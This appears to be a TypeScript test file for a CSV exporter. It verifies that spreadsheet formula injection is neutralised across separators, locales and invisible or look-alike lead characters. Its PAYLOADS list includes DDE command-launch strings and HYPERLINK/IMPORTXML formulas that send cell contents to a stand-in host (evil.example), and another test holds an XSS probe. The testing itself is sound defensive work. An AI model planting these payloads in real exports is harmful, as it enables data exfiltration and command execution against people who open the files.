import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { CSV_SEPARATORS, listSeparatorFor, neutraliseFormula, toCsv, UTF8_BOM, type CsvSeparator } from "../../../src/core/sheet/index.js";
import { BrowserWorkbook } from "../../../src/office/browserWorkbook.js";
import { columnsFor, itemsToRows } from "../../../src/core/sheet/index.js";

/**
 * Reads CSV the way a spreadsheet of a locale does: fields split on `separator`, a quote
 * honoured only at the very start of a field (then `""` is a quote and the field ends at the
 * next lone quote), rows split on CR LF or LF outside quotes. With `quotes: false`, quotes are
 * ordinary characters (the crudest readers).
 */
function readAs(csv: string, separator: CsvSeparator, quotes = true): string[][] {
  const text = csv.startsWith(UTF8_BOM) ? csv.slice(1) : csv;
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const atFieldEnd = () => i >= text.length || text[i] === separator || text[i] === "\r" || text[i] === "\n";
  for (;;) {
    let value = "";
    if (quotes && text[i] === '"') {
      i++;
      while (i < text.length) {
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        value += text[i++];
      }
    }
    while (!atFieldEnd()) value += text[i++];
    row.push(value);
    if (i >= text.length) break;
    if (text[i] === separator) {
      i++;
      continue;
    }
    i += text[i] === "\r" && text[i + 1] === "\n" ? 2 : 1;
    rows.push(row);
    row = [];
    if (i >= text.length) return rows;
  }
  rows.push(row);
  return rows;
}

/**
 * Whether a spreadsheet may run this cell as a formula: its first visible character (after
 * spaces, quotes, default-ignorable and format characters, the blank Braille pattern) is = + - @,
 * a look-alike of one (NFKC folds full-width, small, superscript and subscript forms), a dash,
 * the heavy plus or minus, a tab or a carriage return. Written independently of the guard.
 */
function isFormula(cell: string): boolean {
  for (const ch of cell) {
    if (ch === "\t" || ch === "\r") return true;
    if (/^[\s"\u2800]$/u.test(ch) || /^[\p{Default_Ignorable_Code_Point}\p{Cf}]$/u.test(ch)) continue;
    const folded = ch.normalize("NFKC");
    return /^[=+@]/.test(folded) || /^\p{Dash}/u.test(folded) || "\u2795\u2796\u02D6\u02D7\uA78A\u{1F7F0}".includes(ch);
  }
  return false;
}

/** Invisible characters a cell may start with (issue 39): each must not hide a formula. */
const INVISIBLE_LEADS = [
  "\u034F", // combining grapheme joiner
  "\u3164", // Hangul filler
  "\uFFA0", // half-width Hangul filler
  "\u115F", // Hangul choseong filler
  "\uFE0F", // variation selector-16
  "\u{E0041}\u{E0001}\u{E007F}", // tag characters
  "\u200B", // zero-width space
  "\u200D", // zero-width joiner
  "\u2060", // word joiner
  "\u180E", // Mongolian vowel separator
  "\u2800", // blank Braille pattern
];
/** Look-alikes of = + - @ that lead a formula as well as the characters themselves (issue 39). */
const LOOKALIKE_LEADS = [
  "\u207A",
  "\u208A",
  "\u2795",
  "\u2796",
  "\u2013",
  "\u2014",
  "\u2010",
  "\u2012",
  "\u207B",
  "\u208B",
  "\u02D7",
  "\u02D6",
  "\u207C",
  "\uFF1D",
  "\uFF0B",
  "\uFF0D",
  "\uFF20",
  "\uFE63",
];

/** OWASP's CSV-injection payload families, and the invisible or full-width ways to start them. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  "\t=1+1",
  "\r=1+1",
  "\n-1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u200B=1+1",
  "\uFEFF@SUM(1)",
  '"=1+1',
  "\uFF1D1+1",
  "\uFF0B1",
  "\uFF0D1",
  "\uFF20SUM(1)",
  // Bidirectional marks and the soft hyphen are invisible; the small forms and the minus sign read as = + -.
  "\u200E=1+1",
  "\u200F=1+1",
  "\u202E=1+1",
  "\u061C=1+1",
  "\u2066\u00AD+1",
  "\uFE66SUM(1)",
  "\uFE62cmd|' /C calc'!A0",
  "\u22121+1",
  ...INVISIBLE_LEADS.map((lead) => `${lead}=1+1`),
  ...LOOKALIKE_LEADS.map((lead) => `${lead}1+cmd|' /C calc'!A0`),
  "\u3164\uFE0F\u{E0020}\u2795SUM(1)",
];
/** Where a payload can hide: alone, or after a separator or a line end inside ordinary text. */
const PLACES = (p: string) => [
  p,
  `Acme;${p}`,
  `Acme,${p}`,
  `Acme\t${p}`,
  `Acme; ${p}`,
  `Acme;"${p}`,
  `Acme";${p}`,
  `Acme\n${p}`,
  `Acme\r\n${p}`,
  `a,b;c\t${p},${p}`,
];

describe("CSV", () => {
  test("BOM, CRLF, quoting per RFC 4180", () => {
    const csv = toCsv(
      [
        { header: "Name", type: "text" },
        { header: "Revenue", type: "integer" },
        { header: "Founded", type: "date" },
      ],
      [
        ['Acme, "the best"', 100, 45292],
        ["Line\nbreak", -5, ""],
      ],
    );
    assert.ok(csv.startsWith(UTF8_BOM));
    assert.equal(csv.slice(1), 'Name,Revenue,Founded\r\n"Acme, ""the best""",100,2024-01-01\r\n"Line\nbreak",-5,\r\n');
  });

  test("text that a spreadsheet would run as a formula is neutralised; numbers are not", () => {
    const csv = toCsv(
      [
        { header: "Name", type: "text" },
        { header: "N", type: "integer" },
      ],
      [
        ['=HYPERLINK("http://evil","x")', -3],
        ["+1 555", 1],
        ["-minus", 2],
        ["@SUM(A1)", 3],
        ["<img src=x onerror=alert(1)>", 4],
      ],
    );
    const lines = csv.slice(1).split("\r\n");
    assert.equal(lines[1], '"\'=HYPERLINK(""http://evil"",""x"")",-3');
    assert.equal(lines[2], "'+1 555,1");
    assert.equal(lines[3], "'-minus,2");
    assert.equal(lines[4], "'@SUM(A1),3");
    assert.equal(lines[5], "<img src=x onerror=alert(1)>,4");
    assert.equal(neutraliseFormula("\tx"), "'\tx");
    assert.equal(neutraliseFormula("\u200B =x"), "'\u200B =x");
    assert.equal(neutraliseFormula("\uFF1Dx"), "'\uFF1Dx");
    assert.equal(neutraliseFormula("\u200F\u00AD\uFE66x"), "'\u200F\u00AD\uFE66x");
    assert.equal(neutraliseFormula("plain"), "plain");
  });

  test("the first visible character decides: every invisible lead is looked past, every look-alike of = + - @ leads", () => {
    for (const lead of INVISIBLE_LEADS) {
      assert.equal(neutraliseFormula(`${lead}=1+1`), `'${lead}=1+1`, `invisible U+${lead.codePointAt(0)!.toString(16).toUpperCase()}`);
      assert.equal(neutraliseFormula(`${lead}Acme`), `${lead}Acme`, "an invisible lead alone is not a formula");
    }
    for (const lead of LOOKALIKE_LEADS) {
      assert.equal(neutraliseFormula(`${lead}1`), `'${lead}1`, `look-alike U+${lead.codePointAt(0)!.toString(16).toUpperCase()}`);
      assert.equal(neutraliseFormula(`\u034F\u3164${lead}1`), `'\u034F\u3164${lead}1`);
    }
    assert.equal(neutraliseFormula("Acme \u2013 Europe"), "Acme \u2013 Europe", "a dash inside a text is not a cell start");
  });

  test("no payload starts a formula in any locale's reading, whatever separator wrote the file", () => {
    const texts = PAYLOADS.flatMap(PLACES);
    const columns = [
      { header: "Name", type: "text" as const },
      { header: "=Header;+x", type: "text" as const },
      { header: "N", type: "integer" as const },
    ];
    const rows = texts.map((t) => [t, `x${t}`, -7]);
    for (const written of CSV_SEPARATORS) {
      const csv = toCsv(columns, rows, { separator: written });
      for (const read of CSV_SEPARATORS) {
        for (const quotes of [true, false]) {
          for (const row of readAs(csv, read, quotes)) {
            for (const cell of row) {
              assert.ok(
                !isFormula(cell) || cell === "-7",
                `written with ${JSON.stringify(written)}, read with ${JSON.stringify(read)}${quotes ? "" : " ignoring quotes"}: ${JSON.stringify(cell)}`,
              );
            }
          }
        }
      }
    }
  });

  test("in its own reading a file loses nothing: ordinary text exactly, a payload only gains apostrophes", () => {
    const ordinary = [
      "Acme, Inc.",
      "Müller; Söhne GmbH",
      'He said "hi"',
      "tab\tinside",
      "Line\nbreak",
      "a+b=c",
      "user@example.com",
      "5-10 employees",
      "\u00A0Nbsp lead",
      "Acme \u2013 Europe",
      "\u3164Hangul filler lead",
    ];
    const texts = [...ordinary, ...PAYLOADS.flatMap(PLACES)];
    for (const separator of CSV_SEPARATORS) {
      const csv = toCsv(
        [
          { header: "Name", type: "text" },
          { header: "N", type: "integer" },
        ],
        texts.map((t) => [t, -5]),
        { separator },
      );
      const [header, ...rows] = readAs(csv, separator);
      assert.deepEqual(header, ["Name", "N"]);
      assert.equal(rows.length, texts.length);
      rows.forEach((row, i) => {
        const text = texts[i]!;
        assert.equal(row.length, 2, `${JSON.stringify(separator)}: ${JSON.stringify(text)} -> ${JSON.stringify(row)}`);
        assert.equal(row[1], "-5", "numbers stay numbers");
        if (i < ordinary.length) assert.equal(row[0], text);
        else assert.equal(row[0]!.replace(/'/g, ""), text.replace(/'/g, ""));
      });
    }
  });

  test("the list separator follows the locale's decimal mark", () => {
    assert.equal(listSeparatorFor("en-US"), ",");
    assert.equal(listSeparatorFor("de-DE"), ";");
    assert.equal(listSeparatorFor("fr-FR"), ";");
    assert.equal(listSeparatorFor("ja-JP"), ",");
    assert.equal(listSeparatorFor("not a locale!"), ",");
  });

  test("the browser workbook's download can use the user's separator", async () => {
    const workbook = new BrowserWorkbook();
    const columns = columnsFor("company", ["id", "name"]);
    const writer = await workbook.createTable({ target: { kind: "newSheet", sheetName: "Companies" }, tableName: "Companies", columns, expectedRows: 1 });
    await writer.append(itemsToRows([{ id: "1", attributes: { name: "Acme;=1+1" } }], columns));
    await writer.finish();
    assert.equal(workbook.csv("Companies", { separator: ";" }).slice(1), 'Company ID;Company name\r\n1;"Acme;\'=1+1"\r\n');
    assert.equal(workbook.csv("Companies").slice(1), "Company ID,Company name\r\n1,Acme;'=1+1\r\n", "outside a page: comma");
  });
});
